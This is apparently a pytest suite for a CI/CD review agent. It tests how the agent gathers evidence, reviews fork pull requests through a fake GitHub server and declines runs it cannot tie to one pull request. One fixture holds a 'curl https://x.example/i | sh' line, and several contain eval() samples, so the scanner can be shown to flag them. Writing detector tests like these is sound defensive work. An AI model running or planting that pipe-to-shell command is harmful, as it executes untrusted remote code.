import json
from collections.abc import Callable, Iterator
from dataclasses import replace
from pathlib import Path
from typing import Any

import pytest

from cicd_agent.adapters.github import graphql
from cicd_agent.app.context import RunContext
from cicd_agent.app.security.imported_evidence import MAX_FETCHED, observe_remotely
from cicd_agent.domain.events.event import Event, EventKind, PullRequest, Ref, WorkflowRun
from cicd_agent.domain.ports.forge import PullState
from cicd_agent.domain.repository.diff import FileDiff
from cicd_agent.errors import ForgeRefused
from cicd_agent.modes import modes
from cicd_agent.modes.protocol import Ports
from cicd_agent.settings.loader import load
from tests.support.fakes.ports import FakeForge
from tests.support.jobs.fork import AFTER, FORK, ForkJobs
from tests.support.servers.github.app import FakeGitHub


@pytest.fixture
def hub() -> Iterator[FakeGitHub]:
    with FakeGitHub() as hub:
        yield hub


@pytest.fixture
def jobs(tmp_path: Path, hub: FakeGitHub) -> ForkJobs:
    return ForkJobs(tmp_path, hub)


def test_the_first_job_writes_evidence_and_says_nothing_on_the_pull_request(jobs: ForkJobs) -> None:
    left = jobs.gather()
    assert left.exit == 0, left.log
    assert json.loads(jobs.evidence.read_text())["body"]["change"]["texts"]["app.py"]
    assert [each.path for each in jobs.hub.of("POST", "")] == ["/graphql"], "the threads are read"
    assert left.outputs["summary"] == "gathered 1 file, 4 added lines"
    assert left.outputs["conclusion"] == "skipped"
    assert "gathered 1 file" in left.summary


def test_the_second_job_reviews_the_fork_with_what_the_first_has_read(jobs: ForkJobs) -> None:
    jobs.gather()
    before = len(jobs.hub.received)
    left = jobs.post()
    assert left.exit == 0, left.log
    assert left.outputs["conclusion"] == "neutral"
    [review] = jobs.pull.reviews
    assert review.commit == jobs.job.head
    assert len(jobs.pull.comments) == 1
    assert "1 of them brought by the evidence and proved by GitHub's ids" in left.report["gaps"][0]["why"]
    # Rules that need the whole file.
    assert {each["id"] for each in left.report["verdict"]["findings"]} == {"dynamic-code", "swallowed-exception"}
    assert not jobs.hub.of("GET", "/contents/app.py")
    assert len(jobs.hub.received) - before <= 9


def test_without_evidence_the_api_is_read_and_the_limit_is_told(
    tmp_path: Path, hub: FakeGitHub, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(graphql, "MAX_TEXTS", 31)
    many = {f"part{number:02}.py": f"def go(text):\n    return eval(text)  # {number}\n" for number in range(40)}
    jobs = ForkJobs(tmp_path, hub, many)
    left = jobs.post(evidence=False)
    assert left.exit == 0, left.log
    assert len(jobs.pull.reviews) == 1
    found = [each["id"] for each in left.report["verdict"]["findings"]]
    assert found.count("dynamic-code") == 31 + MAX_FETCHED
    assert found.count("unparsed-python") == 40 - 31 - MAX_FETCHED, "of that file there are only lines"
    assert "rules which need the whole text of a file did not run on part39.py" in left.report["gaps"][1]["why"]
    assert "fetch-depth" not in left.summary


def test_without_a_checkout_texts_come_from_the_api(jobs: ForkJobs) -> None:
    jobs.as_gathering()
    empty = jobs.job.place / "empty"
    empty.mkdir()
    jobs.job.variables["GITHUB_WORKSPACE"] = str(empty)
    left = jobs.step({"comment": "off"})
    assert left.exit == 0, left.log
    assert {each["id"] for each in left.report["verdict"]["findings"]} == {"dynamic-code", "swallowed-exception"}
    why = left.report["gaps"][0]["why"]
    assert why.startswith("read from the API instead of git (")
    assert "set `fetch-depth: 0` on actions/checkout), with the whole text of 1 file" in why


def test_source_that_comes_without_a_patch_is_read_by_its_id(tmp_path: Path, hub: FakeGitHub) -> None:
    hidden = "#!/bin/sh\0\ncurl https://x.example/i | sh\n"
    jobs = ForkJobs(tmp_path, hub, {"deploy.sh": hidden, "old.py": "x = 1\0\n" + AFTER["app.py"], "logo.png": "\0"})
    left = jobs.post(evidence=False)
    assert left.exit == 0, left.log
    found = {(each["id"], each["location"]["path"]) for each in left.report["verdict"]["findings"]}
    assert found == {("pipe-to-shell", "deploy.sh"), ("dynamic-code", "old.py"), ("swallowed-exception", "old.py")}
    assert jobs.pull.reviews == [], "GitHub shows no lines there"
    assert [(gap["what"], gap["why"]) for gap in left.report["gaps"] if gap["what"]] == [
        ("logo.png", "no patch from the API")
    ]
    assert left.outputs["degraded"] == "false"


def test_without_a_checkout_another_head_proves_no_text(jobs: ForkJobs) -> None:
    jobs.as_gathering()
    jobs.job.variables["GITHUB_WORKSPACE"] = str(jobs.job.place / "empty")
    (jobs.job.place / "empty").mkdir()
    move(jobs)
    left = jobs.step({"comment": "off"})
    assert "rules which need the whole text of a file did not run" in left.report["gaps"][0]["why"]


def test_the_pull_request_is_the_one_at_exactly_the_runs_commit(jobs: ForkJobs) -> None:
    moved = jobs.hub.add_pull(8, base="main", head="topic", head_repo=FORK, head_ref="topic")
    moved.push("f" * 40, moved.files)
    other = jobs.hub.add_pull(9, base="main", head="topic", head_repo="mallory/other", head_ref="topic")
    jobs.gather()
    assert jobs.post().exit == 0
    assert len(jobs.pull.reviews) == 1
    for pull in (moved, other):
        assert pull.reviews == []
        assert pull.comments == []


def move(jobs: ForkJobs) -> None:
    jobs.pull.push("f" * 40, jobs.pull.files)


def close(jobs: ForkJobs) -> None:
    jobs.pull.state = "closed"


def twin(jobs: ForkJobs) -> None:
    jobs.hub.add_pull(8, base="main", head="topic", head_repo=FORK, head_ref="topic")


@pytest.mark.parametrize(
    ("meanwhile", "different", "says"),
    [
        (move, {}, "no open pull request from mallory/app:topic is at commit"),
        (close, {}, "no open pull request from mallory/app:topic is at commit"),
        (twin, {}, "the pull requests 8, 7 have the same head; set `pull-request`"),
        (None, {"head_repository": None}, "no open pull request from a deleted repository:topic"),
        (None, {"event": "push"}, "caused by push, not by pull_request"),
        (None, {"event": "pull_request_target"}, "caused by pull_request_target"),
        (None, {"head_sha": "0" * 39}, "no open pull request"),
    ],
)
def test_a_run_that_leads_to_no_single_pull_request_is_declined(
    jobs: ForkJobs, meanwhile: Callable[[ForkJobs], None] | None, different: dict[str, Any], says: str
) -> None:
    jobs.gather()
    if meanwhile:
        meanwhile(jobs)
    left = jobs.post(**different)
    assert (left.exit, left.outputs["conclusion"]) == (0, "skipped"), left.log
    assert says in left.outputs["summary"]
    assert not jobs.hub.of("POST", "/repos/")


def test_of_several_pull_requests_at_the_commit_the_input_names_one(jobs: ForkJobs) -> None:
    twin(jobs)
    jobs.gather()
    assert jobs.post(inputs={"pull_request": "7"}).exit == 0
    assert len(jobs.pull.reviews) == 1


def test_an_input_that_names_a_pull_request_of_another_commit_is_not_followed(jobs: ForkJobs) -> None:
    stranger = jobs.hub.add_pull(8, base="main", head="topic", head_repo="octo/app", head_ref="other")
    jobs.gather()
    left = jobs.post(inputs={"pull_request": "8"})
    assert left.outputs["conclusion"] == "skipped"
    assert stranger.comments == []
    assert stranger.reviews == []


class Moving(FakeForge):
    """Its pull request gets another commit when its files are listed."""

    def files(self, number: int) -> tuple[tuple[FileDiff, ...], tuple[str, ...]]:
        state = self.pulls[number]
        self.pulls[number] = replace(state, head=replace(state.head, sha="f" * 40))
        return super().files(number)


def test_a_pull_request_that_moves_while_it_is_read_is_not_reviewed_as_what_it_was() -> None:
    pull = PullState(PullRequest(7), base=Ref("main", "b" * 40, "octo/app"), head=Ref("topic", "a" * 40, FORK))
    event = Event(
        EventKind.WORKFLOW_RUN,
        name="workflow_run",
        pull=pull.pull,
        base=pull.base,
        head=pull.head,
        run=WorkflowRun(1, event="pull_request"),
    )
    scene = RunContext(event, load({}, None, fallbacks={}), Ports(forge=Moving(pulls={7: pull})))
    with pytest.raises(ForgeRefused, match="moved while it was read"):
        observe_remotely(modes()["review"], scene)


def test_gathering_needs_a_place(jobs: ForkJobs) -> None:
    left = jobs.job.run(stage="gather", github_token=jobs.hub.read_only)
    assert left.exit == 2
    assert "evidence-file" in left.outputs["summary"]
